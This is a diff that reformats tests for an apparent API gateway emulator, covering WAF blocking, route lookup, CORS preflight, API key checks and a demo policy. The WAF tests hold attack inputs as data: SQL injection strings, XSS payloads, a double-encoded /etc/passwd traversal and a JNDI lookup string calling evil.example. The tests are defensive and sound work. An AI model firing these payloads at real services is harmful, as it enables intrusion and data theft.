@@ -24,7 +24,11 @@ describe('startGateway', () => {
 describe('1. WAF', () => {
   it('blocks attacks before route lookup, auth and throttle, with WAF_FILTERED', () =>
     withGateway([], async (gateway) => {
-      for (const path of ['/api/items?id=1%20UNION%20SELECT%20password', '/nowhere?q=%3Cscript%3E', '/health?f=..%252f..%252fetc%252fpasswd']) {
+      for (const path of [
+        '/api/items?id=1%20UNION%20SELECT%20password',
+        '/nowhere?q=%3Cscript%3E',
+        '/health?f=..%252f..%252fetc%252fpasswd',
+      ]) {
         const answer = await call(gateway, path);
         expect(answer.status, path).toBe(403);
         expect(answer.headers.get('x-amzn-errortype')).toBe('ForbiddenException');
@@ -36,7 +40,11 @@ describe('1. WAF', () => {
     withGateway([], async (gateway) => {
       expect((await call(gateway, '/health', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } })).status).toBe(403);
       expect((await call(gateway, '/health', { headers: { cookie: 'a=1; b=<script>alert(1)</script>' } })).status).toBe(403);
-      const post = await call(gateway, '/api/items', { method: 'POST', headers: { ...KEY, 'content-type': 'application/json' }, body: JSON.stringify({ q: "' OR 1=1--" }) });
+      const post = await call(gateway, '/api/items', {
+        method: 'POST',
+        headers: { ...KEY, 'content-type': 'application/json' },
+        body: JSON.stringify({ q: "' OR 1=1--" }),
+      });
       expect(post.status).toBe(403);
       expect(post.headers.get('x-amzn-errortype')).toBe('ForbiddenException');
       // A key that looks like an attack is the auth step's business, not the WAF's.
@@ -55,7 +63,14 @@ describe('1. WAF', () => {
 describe('2. route lookup', () => {
   it('answers unknown paths and methods with 403 Missing Authentication Token', () =>
     withGateway([], async (gateway) => {
-      for (const [method, path] of [['GET', '/nope'], ['GET', '/api/items/'], ['GET', '/API/items'], ['DELETE', '/api/items'], ['PUT', '/health'], ['OPTIONS', '/health']] as const) {
+      for (const [method, path] of [
+        ['GET', '/nope'],
+        ['GET', '/api/items/'],
+        ['GET', '/API/items'],
+        ['DELETE', '/api/items'],
+        ['PUT', '/health'],
+        ['OPTIONS', '/health'],
+      ] as const) {
         const answer = await call(gateway, path, { method, headers: KEY });
         expect(answer.status, `${method} ${path}`).toBe(403);
         expect(answer.headers.get('x-amzn-errortype')).toBe('MissingAuthenticationTokenException');
@@ -93,7 +108,10 @@ describe('3. CORS preflight', () => {
       for (const origin of [EVIL_ORIGIN, 'null', `${APP_ORIGIN}.evil.tld`, 'http://app.example.com']) {
         const answer = await call(gateway, '/api/items', preflight(origin));
         expect(answer.status).toBe(204);
-        expect([...answer.headers.keys()].filter((name) => name.startsWith('access-control-allow-')), origin).toEqual([]);
+        expect(
+          [...answer.headers.keys()].filter((name) => name.startsWith('access-control-allow-')),
+          origin,
+        ).toEqual([]);
       }
     }));
 
@@ -117,7 +135,13 @@ describe('3. CORS preflight', () => {
 describe('4. API key', () => {
   it('refuses a missing or wrong key with 403 Forbidden and accepts the right one', () =>
     withGateway([], async (gateway) => {
-      for (const headers of [{}, { 'x-api-key': 'wrong' }, { 'x-api-key': API_KEY.slice(0, -1) }, { 'x-api-key': `${API_KEY},${API_KEY}` }, { authorization: API_KEY }] as Array<Record<string, string>>) {
+      for (const headers of [
+        {},
+        { 'x-api-key': 'wrong' },
+        { 'x-api-key': API_KEY.slice(0, -1) },
+        { 'x-api-key': `${API_KEY},${API_KEY}` },
+        { authorization: API_KEY },
+      ] as Array<Record<string, string>>) {
         const answer = await call(gateway, '/api/items', { headers });
         expect(answer.status, JSON.stringify(headers)).toBe(403);
         expect(answer.headers.get('x-amzn-errortype')).toBe('ForbiddenException');
@@ -264,14 +288,19 @@ describe('metrics', () => {
 describe('the shipped demo policy', () => {
   it('loads and is enforced as written', async () => {
     const { loadPolicyFile } = await import('../../src/policy/load.js');
-    const policy = loadPolicyFile(new URL('../../policies/demo.yaml', import.meta.url).pathname, { env: { GATECHECK_DEMO_API_KEY: 'demo-key' } });
+    const policy = loadPolicyFile(new URL('../../policies/demo.yaml', import.meta.url).pathname, {
+      env: { GATECHECK_DEMO_API_KEY: 'demo-key' },
+    });
     await withGateway(
       [],
       async (gateway) => {
         expect((await call(gateway, '/api/items', { headers: { 'x-api-key': 'demo-key' } })).status).toBe(200);
         expect((await call(gateway, '/api/items')).status).toBe(403);
         expect((await call(gateway, '/health')).status).toBe(200);
-        const pre = await call(gateway, '/api/items', { method: 'OPTIONS', headers: { origin: 'https://app.example.com', 'access-control-request-method': 'GET' } });
+        const pre = await call(gateway, '/api/items', {
+          method: 'OPTIONS',
+          headers: { origin: 'https://app.example.com', 'access-control-request-method': 'GET' },
+        });
         expect(pre.status).toBe(204);
         expect(pre.headers.get('access-control-max-age')).toBe('600');
         // burstLimit 20 at 50/s: at most 20 at once plus 50 per second of volley; at least the 19
